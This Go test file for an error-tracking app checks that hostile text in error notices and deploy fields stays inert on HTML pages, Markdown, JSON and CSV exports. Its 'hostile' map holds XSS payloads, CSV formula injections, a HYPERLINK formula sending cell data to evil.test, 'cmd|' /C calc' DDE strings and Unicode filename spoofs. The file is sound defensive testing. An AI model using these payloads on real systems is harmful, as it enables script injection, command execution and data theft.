package fault_test

import (
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net/url"
	"strings"
	"testing"

	"github.com/yuin/goldmark"
	"github.com/yuin/goldmark/ast"
	"github.com/yuin/goldmark/extension"
	"github.com/yuin/goldmark/text"

	"sett/internal/sett"
	"sett/internal/store/faultdb"
)

// hostile are texts that must stay texts wherever they stand.
var hostile = map[string]string{
	"script":     `</code></pre><script>alert(1)</script>"><img src=x onerror=alert(1)>' onmouseover='x`,
	"template":   `{{.User}}<!-- --><svg/onload=x>`,
	"javascript": `javascript:alert(1)`,
	"scheme":     "JaVaScRiPt\t:alert(1)",
	"data":       `data:text/html,<script>alert(1)</script>`,
	"quotes":     `https://x.test/"onmouseover="x`,
	"userinfo":   `https://bank.test@evil.test/`,
	"huge":       strings.Repeat("A long <b>text</b> ", 5_000),
	"right":      "\u202Egpj.exe\u202C \u2066x\u2069 \u0627\u0644",
	"nul":        "a\u0000b\u0001\u0008\uFFFE",
	"fence":      "``````\n# head\n<script>x</script>",
	"deep":       strings.Repeat(`[`, 3),
	"formula":    `=HYPERLINK("https://evil.test/?x="&A1,"Click")`,
	"plus":       "+1+cmd|' /C calc'!A0",
	"wide":       "＝1+1",
	"behind":     " \t=1+1",
	"at":         "@SUM(1+1)*cmd|' /C calc'!A0 @ann",
	"picture":    "![x](https://evil.test/p.png) [y](javascript:alert(1)) <https://evil.test/> www.evil.test",
	"setext":     "head\n====\n\n    code\n\n- item\n\n***\n<!--",
	"ticks":      "```\r\n~~~\r# head `` ` x",
	"stream":     "x\revent: go\rdata: https://evil.test/\r\revent: end\n\nid: 9\r\n\r\ndata: javascript:alert(1)\u2028event: go\u0085",
}

// noticeOf says a text in all places of a notice.
func noticeOf(t *testing.T, text string, context any) string {
	t.Helper()
	short := text[:min(len(text), 100_000)]
	body, err := json.Marshal(map[string]any{
		"error": map[string]any{
			"class": short, "message": text, "tags": []string{short}, "fingerprint": short,
			"backtrace": []any{map[string]any{"file": short, "method": short, "number": "1", "context": "app", "source": map[string]any{"1": short, "x": short}}, short},
			"causes":    []any{map[string]any{"class": short, "message": short, "backtrace": short}},
		},
		"breadcrumbs": map[string]any{"trail": []any{map[string]any{"category": short, "message": short, "timestamp": short, "metadata": map[string]any{short: short}}}},
		"request": map[string]any{
			"url": short, "component": short, "action": short, "params": map[string]any{short: short}, "session": short, "context": context,
			"cgi_data": map[string]any{"HTTP_COOKIE": short + "=" + short, short: short},
		},
		"server":   map[string]any{"hostname": short, "revision": short, "environment_name": "production", "project_root": short, "stats": map[string]any{short: short}},
		"notifier": map[string]any{"name": short, "version": short}, "details": map[string]any{short: map[string]any{short: short}},
	})
	if err != nil {
		t.Fatal(err)
	}
	return string(body)
}

func TestHostileNoticesAreText(t *testing.T) {
	t.Parallel()
	if testing.Short() {
		t.Skip("-short leaves out tests that take seconds")
	}
	o := open(t)
	settings := `{"project":{"name":"Shop","source_url":"https://git.test/[sha]/[file]#L[line]","user_url":"https://admin.test/?u=[user_id]"}}`
	o.Put(fmt.Sprintf("/v2/projects/%d", o.Setup.ProjectID), settings).Want(204)
	o.Post("/v1/deploys", `{"deploy":{"environment":"production"}}`).Want(201) // one text is refused in a deploy, and may come first
	for name, text := range hostile {
		answer := o.Post("/v1/notices", noticeOf(t, text, map[string]any{"user_id": text, "user": map[string]any{"email": text}, text[:min(len(text), 1000)]: []any{text}}))
		if answer.Status == 413 { // more than a client may send
			answer = o.Post("/v1/notices", `{"error":{"class":"Huge","message":`+quoted(text)+`}}`)
		}
		answer.Want(201)
		o.hostileDeploy(text)
		for _, page := range append(o.around(t), o.list()+"?q=", o.list()+"?view=compact&q="+url.QueryEscape(text[:min(len(text), 500)]), o.list()+"?q=&environment="+url.QueryEscape(text[:min(len(text), 500)]), o.newest()+"?trace=all", o.newest()+"?trace=app", o.newest()+"?trace=raw", o.newest()+"/notices", o.newest()+"/users", o.shared(t)) {
			got := o.member.Get(page)
			if got.Status != 200 && got.Status != 422 { // a search that makes no sense is shown again
				t.Errorf("%s: %s answers %d", name, page, got.Status)
			}
			got.CheckMarkup()
			lacks(t, got.Body, "<script>alert", "<img src=x", "<svg/onload", `href="javascript:`, `href="data:text`, `" onmouseover`, `"onmouseover="x"`, `href="https://bank.test@`, "<b>text")
			if len(got.Body) > 400_000 {
				t.Errorf("%s: %s has %d bytes", name, page, len(got.Body))
			}
		}
		md := o.member.Get(o.newest() + ".md").Want(200)
		if policy := md.Header.Get("Content-Security-Policy"); !strings.Contains(policy, "sandbox") {
			t.Errorf("the policy of Markdown is %q", policy)
		}
		plainMarkdown(t, name, md.Body)
		if body := o.member.Get(o.newest() + ".json").Want(200).Body; !json.Valid([]byte(body)) || strings.Contains(body, "<script") {
			t.Errorf("%s: the export is no JSON that is safe in a page", name)
		}
		o.member.Get(o.newest() + ".txt").Want(200)
		for _, table := range append(o.tables(), o.list()+".csv?q=") {
			plainTable(t, name, o.member.Get(table).Want(200).Body)
		}
	}
}

// hostileDeploy reports a deploy that has a text in every field.
func (o *shop) hostileDeploy(text string) {
	o.t.Helper()
	short := quoted(text[:min(len(text), 1000)])
	o.Post("/v1/deploys", `{"deploy":{"environment":`+short+`,"revision":`+short+`,"repository":`+short+`,"local_username":`+short+`}}`)
}

// around are the pages of other rooms that show what clients said.
func (o *shop) around(t *testing.T) []string {
	t.Helper()
	project := fmt.Sprintf("/projects/%d", o.Setup.ProjectID)
	deploys, _, err := o.App.Store().Faults.ListDeploys(t.Context(), o.Setup.ProjectID, faultdb.DeployFilter{Page: sett.Page{Size: 1}})
	if err != nil || len(deploys) == 0 {
		t.Fatalf("deploys %v, error %v", deploys, err)
	}
	pages := []string{"/", "/projects", project, project + "/live", project + "/timeline", "/accounts/" + o.Setup.AccountID + "/timeline", project + "/deploys", fmt.Sprint(project, "/deploys/", deploys[0].ID)}
	for _, report := range []string{"notices_per_day", "notices_by_class", "notices_by_location", "notices_by_user"} {
		pages = append(pages, project+"/reports/"+report)
	}
	return pages
}

// tables are what others than this room give to spreadsheets.
func (o *shop) tables() (paths []string) {
	for _, report := range []string{"notices_by_class", "notices_by_location", "notices_by_user"} {
		paths = append(paths, fmt.Sprintf("/projects/%d/reports/%s/rows.csv", o.Setup.ProjectID, report))
	}
	return paths
}

// shared is the path of the public page of the newest fault.
func (o *shop) shared(t *testing.T) string {
	t.Helper()
	_, link, _ := strings.Cut(o.member.Post(o.newest()+"/share").Want(200).Body, `<code class="secret">`)
	link, _, _ = strings.Cut(link, "<")
	return strings.TrimPrefix(link, o.App.BaseURL())
}

// plainTable fails the test when a cell of a table is one that spreadsheets compute.
func plainTable(t *testing.T, name, body string) {
	t.Helper()
	rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil || len(rows) == 0 {
		t.Errorf("%s: %d rows, error %v", name, len(rows), err)
	}
	for _, row := range rows {
		for _, cell := range row {
			if first := strings.TrimLeft(cell, " "); first != "" && strings.ContainsRune("=+-@\t\r\n＝", []rune(first)[0]) {
				t.Errorf("%s: the cell %.60q may be a formula", name, cell)
			}
		}
	}
}

// plainMarkdown fails the test when what a client said is anything but text and code in Markdown.
func plainMarkdown(t *testing.T, name, body string) {
	t.Helper()
	source := []byte(body)
	tree := goldmark.New(goldmark.WithExtensions(extension.GFM)).Parser().Parse(text.NewReader(source))
	err := ast.Walk(tree, func(n ast.Node, entering bool) (ast.WalkStatus, error) {
		switch n.Kind() {
		case ast.KindLink, ast.KindImage, ast.KindAutoLink, ast.KindRawHTML, ast.KindHTMLBlock, ast.KindThematicBreak, ast.KindEmphasis, ast.KindBlockquote:
			if entering {
				t.Errorf("%s: the Markdown has a %s", name, n.Kind())
			}
		}
		return ast.WalkContinue, nil
	})
	if err != nil {
		t.Error(err)
	}
}

func quoted(text string) string {
	b, _ := json.Marshal(text)
	return string(b)
}

// newest is the path of the newest fault.
func (o *shop) newest() string {
	o.t.Helper()
	var list struct{ Results []struct{ ID int64 } }
	o.Get(fmt.Sprintf("/v2/projects/%d/faults?limit=1", o.Setup.ProjectID)).Into(&list)
	return fmt.Sprintf("%s/%d", o.list(), list.Results[0].ID)
}

func TestDeepObjectsAreShown(t *testing.T) {
	t.Parallel()
	o := open(t)
	for _, depth := range []int{13, 200, 2000} {
		deep := strings.Repeat(`{"a":`, depth) + `"<i>end"` + strings.Repeat(`}`, depth)
		answer := o.Post("/v1/notices", `{"error":{"class":"Deep"},"request":{"context":{"deep":`+deep+`},"params":`+deep+`}}`)
		if answer.Status != 201 {
			continue // refused at the door
		}
		got := o.member.Get(o.newest()).Want(200, "deep")
		got.CheckMarkup()
		if len(got.Body) > 200_000 {
			t.Errorf("%d levels take %d bytes", depth, len(got.Body))
		}
	}
}
